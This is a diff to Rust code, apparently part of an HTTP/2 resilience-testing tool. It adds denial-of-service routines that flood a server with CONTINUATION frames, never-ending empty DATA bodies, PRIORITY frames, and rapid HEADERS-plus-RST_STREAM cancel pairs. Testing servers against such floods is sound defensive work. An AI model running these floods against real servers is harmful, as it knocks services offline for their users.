@@ -8,7 +8,8 @@ use tokio::io::{AsyncWriteExt, split};
 use crate::{
     attacker::{Attacker, until_closed},
     http2::{
-        CONTINUATION, END_HEADERS, HEADERS, INITIAL_WINDOW, PING, RST_STREAM, SETTINGS, Scheme, begin, fields, frame,
+        CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS, Scheme,
+        begin, fields, frame, long_field,
     },
 };
 
@@ -64,10 +65,19 @@ pub(super) fn continuations(attacker: &Attacker) {
 /// The same with large pieces.
 pub(super) fn large_continuations(attacker: &Attacker) {
     let head = frame(HEADERS, 0, 1, &fields("/validate", Scheme::Https));
-    // A field whose value is as long as a piece allows.
-    let value = vec![b'x'; 16_000];
-    let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x7c][..], &value].concat();
+    let field = long_field();
     flood(attacker, head, 8, |_| frame(CONTINUATION, 0, 1, &field));
+}
+
+/// The pieces of a body that never ends.
+pub(super) fn empty_data(attacker: &Attacker) {
+    let head = frame(HEADERS, END_HEADERS, 1, &fields("/validate?timeout=30s", Scheme::Https));
+    flood(attacker, head, BATCH, |_| frame(DATA, 0, 1, &[]));
+}
+
+pub(super) fn priorities(attacker: &Attacker) {
+    // Every stream depends on the first one, with a weight.
+    flood(attacker, Vec::new(), BATCH, |n| frame(PRIORITY, 0, 2 * n + 3, &[0, 0, 0, 1, 16]));
 }
 
 /// Requests that are reset at once.
@@ -80,7 +90,7 @@ pub(super) fn resets(attacker: &Attacker) {
             for first in (1..u32::MAX >> 1).step_by(2 * BATCH as usize) {
                 let streams = (first..).step_by(2).take(BATCH as usize);
                 let pair = |stream| {
-                    let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
+                    let cancel = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                     [frame(HEADERS, END_HEADERS, stream, &block), cancel].concat()
                 };
                 attacker.requested(u64::from(BATCH));
